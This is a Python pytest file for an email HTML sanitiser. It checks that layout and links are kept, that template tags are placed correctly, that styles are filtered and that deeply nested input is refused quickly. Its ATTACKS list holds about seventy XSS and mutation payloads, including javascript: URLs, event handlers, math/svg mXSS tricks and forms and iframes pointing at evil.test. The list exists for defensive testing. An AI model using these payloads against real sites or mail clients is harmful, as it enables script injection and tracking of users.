"""Is what may stand in mail kept as it was meant, and all that acts left out, however it is written?"""

import contextlib
import re
import time
from html.parser import HTMLParser

import pytest

from mail.wire.sanitise import DEEPEST, bodies, plain, sanitise

LAYOUT = (
    '<table width="600" cellpadding="0" bgcolor="#ffffff" role="presentation"><tbody><tr>'
    '<td align="center" style="padding: 10px 20px; color: #333; font: 14px/1.5 \'Open Sans\', Arial">'
    '<a href="https://shop.test/?a=1&amp;b=2#c" target="_blank">Shop</a> <img src="https://shop.test/l.png" alt="" width="10">'
    "</td></tr></tbody></table><p>Café — <b>שלום</b></p>"
)

# Each must come out without a script, a handler, a frame, a form or a way to fetch one (OWASP's list and known mutations).
ATTACKS = r'''
<script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>
<img src=x onerror=alert(1)>
<img src="javascript:alert(1)">
<img src=`javascript:alert(1)`>
<img """><script>alert(1)</script>">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<a href="javascript:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.test">x</a>
<a href="\\evil.test">x</a>
<a href="https:evil.test">x</a>
<a href="file:///etc/passwd">x</a>
<a onclick="alert(1)" href="https://a.test">x</a>
<a href="https://a.test" style="position:fixed;top:0">x</a>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(4)</script>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<form action="https://evil.test"><input name=a><button>x</button></form>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="https://evil.test"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="https://evil.test"></object>
<embed src="https://evil.test">
<applet code=x></applet>
<meta http-equiv="refresh" content="0;url=https://evil.test">
<link rel=stylesheet href="https://evil.test/x.css">
<base href="https://evil.test/">
<style>body{background:url(javascript:alert(1))}</style>
<style>@import 'https://evil.test/x.css';</style>
<div style="background:url(https://evil.test/pixel)">x</div>
<div style="background-image:u\rl(https://evil.test)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(x.htc)">x</div>
<div style="-moz-binding:url(x)">x</div>
<div style="color:red/**/;x:y">x</div>
<div style="color:red}body{display:none">x</div>
<div style="font-family:'</style><script>alert(1)</script>'">x</div>
<td background="javascript:alert(1)">x</td>
<table background="javascript:alert(1)"><tr><td>x</table>
<video src="https://evil.test" onerror=alert(1)></video>
<audio autoplay src="https://evil.test"></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<textarea><script>alert(1)</script></textarea>
<title><script>alert(1)</script></title>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<template><script>alert(1)</script></template>
<select><option><script>alert(1)</script></select>
<!--[if mso]><script>alert(1)</script><![endif]-->
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>alert(1)</script>
<p id="x" name="y" onmouseover="alert(1)" contenteditable>x</p>
<a href="https://a.test" ping="https://evil.test" download>x</a>
<img src="https://a.test/x.png" srcset="https://evil.test/y.png 2x" lowsrc="javascript:alert(1)">
<blockquote cite="javascript:alert(1)">x</blockquote>
<img usemap="javascript:alert(1)" src="https://a.test/x.png"><map name=m><area href="javascript:alert(1)"></map>
<a href="https://a.test/<% body %>">x</a>
'''.strip().split("\n")

_ACTS = re.compile(
    r"(?i)script|onerror|onload|onclick|srcdoc|expression|url\(|@import|behavior|binding|position|evil|javascript|data:"
)


class _Reader(HTMLParser):
    """What another parser finds in the answer."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.markup: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep the tag with its attributes."""
        self.markup.append(" ".join([tag, *(f"{name}={value}" for name, value in attrs)]))


def test_layout_links_and_pictures_stay_as_they_are() -> None:
    assert sanitise(LAYOUT) == LAYOUT


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_acts_is_left_out(attack: str) -> None:
    kept = sanitise(f"<p>before</p>{attack}<p>after</p>")
    markup = _Reader(kept).markup
    assert [one for one in markup if _ACTS.search(one)] == []
    assert all(
        one.split(" ")[0]
        in {"p", "a", "img", "div", "td", "table", "tbody", "tr", "blockquote", "map", "area", "b", "span"}
        for one in markup
    ), markup
    assert "<p>before</p>" in kept
    assert sanitise(kept) == kept, "what is let through once is let through as it is"


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<p><% body %></p>", "<p><% body %></p>"),
        ("<p>&lt;%BODY%&gt;</p>", "<p><% body %></p>"),
        ("<p>&lt;%&nbsp;body&nbsp;%&gt;</p>", "<p><% body %></p>"),
        ("<% unsubscribe %><% Unsubscribe  07 %>", "<% unsubscribe %><% unsubscribe 7 %>"),
        ("<table><% body %><tr><td>x</td></tr></table>", "<% body %><table><tbody><tr><td>x</td></tr></tbody></table>"),
        ('<a href="<% body %>" title="<% unsubscribe %>">x</a>', "<a>x</a>"),
        ("<script><% body %></script>", ""),
        ("<!-- <% body %> -->", ""),
        ("<% other %>", "&lt;% other %&gt;"),
    ],
)
def test_the_tags_stand_between_elements_and_nowhere_else(written: str, kept: str) -> None:
    assert sanitise(written) == kept
    assert bodies(kept) == kept.count("<% body")


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("color:red;position:absolute;WIDTH : 10px", "color: red; width: 10px"),
        ("margin:0 auto!important;z-index:9", "margin: 0 auto!important"),
        ("background:url(https://a.test/x.png);background-color:rgba(1,2,3,.5)", "background-color: rgba(1,2,3,.5)"),
        ("mso-line-height-rule:exactly;-ms-text-size-adjust:100%", "mso-line-height-rule: exactly; -ms-text-size-adjust: 100%"),
    ],
)  # fmt: skip
def test_styles_are_kept_one_declaration_at_a_time(written: str, kept: str) -> None:
    assert sanitise(f'<p style="{written}">x</p>') == f'<p style="{kept}">x</p>'


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<details open><summary>Terms</summary>No returns</details>", "<div><div>Terms</div>No returns</div>"),
        ("<fieldset><legend>Note</legend>Closed</fieldset>", "<div><div>Note</div>Closed</div>"),
        ("a<FORM action=x>b</FORM>c", "a<div>b</div>c"),
        ("<menu><li>a</li></menu>", "<ul><li>a</li></ul>"),
        ("<option>A<option>B", "<div>A</div><div>B</div>"),
        ("<button>Buy</button><button>Sell</button>", "<span>Buy</span> <span>Sell</span> "),
        ("a<button type=x onclick=y>b</button>c", "a <span>b</span> c"),
        ("a <button>b</button> c", "a <span>b</span> c"),
        ("a<input>b<select><option>x</select>c<iframe>x</iframe>d<svg><path d=x /></svg>e", "a b  c  d   e"),
        ("a<noscript>x</noscript>b<object>x</object>c<textarea>x</textarea>d<xmp><i></xmp>e", "a  b  c  d &lt;i&gt; e"),
        ("a<video>x</video>b", "a x b"),
        # As it was written: its style, and where it ends.
        ('<fieldset style="color:red">a</fieldset>', '<div style="color: red">a</div>'),
        ('<details style="display:none"><div>a</details>b', '<div style="display: none"><div>a</div></div>b'),
        ("<div>a<form>b</div></form>c", "<div>a<div>b</div></div>c"),
        ("<p>a<legend>b</legend>c", "<p>a</p><div>b</div>c<p></p>"),
        ("<table><form><tr><td>a</td></tr></form></table>", "<div></div><table><tbody><tr><td>a</td></tr></tbody></table>"),
        # What is no box of its own goes without a trace, as it is shown.
        ("wo<script>x</script>rd wo<label>rd</label> wo<blink>rd", "word word word"),
        ('<img alt="<details>a<button>">b', '<img alt="&lt;details&gt;a&lt;button&gt;">b'),
    ],
)  # fmt: skip
def test_what_is_dropped_joins_no_words(written: str, kept: str) -> None:
    assert sanitise(written) == kept
    assert sanitise(kept) == kept


def test_what_is_hidden_stays_hidden() -> None:
    kept = '<div hidden="">a</div><p style="display: none; max-height: 0; overflow: hidden; mso-hide: all">b</p>'
    assert sanitise(kept) == kept
    assert sanitise('<div hidden="x">a</div>') == '<div hidden="">a</div>'


def test_a_whole_document_becomes_what_stands_in_it() -> None:
    document = (
        "<!doctype html><html><head><title>t</title><style>p{}</style></head><body bgcolor=red><p>x</p></body></html>"
    )
    assert sanitise(document) == "<p>x</p>"


@pytest.mark.parametrize(
    "piece", ["<b><i><a href=x>", "<% ", "<table>", "&lt;%", "<p><b>", "<!--", "<a style='a:b;", "<div>", "<button>",
              "<form>", "<option>", "<input>", "<menu><li>", "<button>x</button>", "<fieldset><legend>x</fieldset>",
              "<svg>", "<select>", "<iframe>", "<textarea>", "<p><option>x"],
)  # fmt: skip
def test_hostile_html_is_read_in_a_moment_or_refused(piece: str) -> None:
    html = piece * (100_000 // len(piece))
    begun = time.process_time()
    with contextlib.suppress(ValueError):  # too deep
        sanitise(html)
    assert time.process_time() - begun < 1


@pytest.mark.parametrize("before", ["", "<form>"])
def test_elements_that_would_be_said_again_for_ever_are_refused(before: str) -> None:
    begun = time.process_time()
    with pytest.raises(ValueError, match="never closed"):
        sanitise(before + "<p>" + "".join(f"<b title={n}>" for n in range(200)) + "</p>" + "<p>y</p>" * 1_000)
    assert time.process_time() - begun < 1
    begun = time.process_time()
    with pytest.raises(ValueError, match="never closed"):
        sanitise(before + "".join(f"<p><b title={n}>x</p>" for n in range(5_000)))
    assert time.process_time() - begun < 1
    # The twin: real mail forgets some, and a great many that are closed are nobody's trouble.
    assert sanitise("<b><i>" * 25 + "x").endswith("x" + "</i></b>" * 25)
    assert sanitise("<b>x</b>" * 5_000).count("<b>") == 5_000
    assert sanitise("<p><b>x</p><button>y</button>") == "<p><b>x</b></p><b> <span>y</span> </b>"
    assert sanitise(before + "&" * 50_000).count("&amp;") == 50_000


def test_what_is_no_text_and_what_is_too_deep_is_refused_and_just_below_it_is_not() -> None:
    with pytest.raises(ValueError, match="surrogates"):
        sanitise("<p>\ud800</p>")
    with pytest.raises(ValueError, match="deep"):
        sanitise("</p>" * 5_000 + "<div>" * (DEEPEST + 1))
    assert sanitise("<div>" * DEEPEST).count("<div>") == DEEPEST


def test_plain_text_keeps_every_letter_and_no_control_character() -> None:
    assert plain("a\r\nb\rc\x00\x1b[1m\td\u200e\u05d0👩‍👧") == "a\nb\nc[1m\td\u200e\u05d0👩‍👧"
    assert plain("x <%  BODY %> y <%unsubscribe 03%>") == "x <% body %> y <% unsubscribe 3 %>"
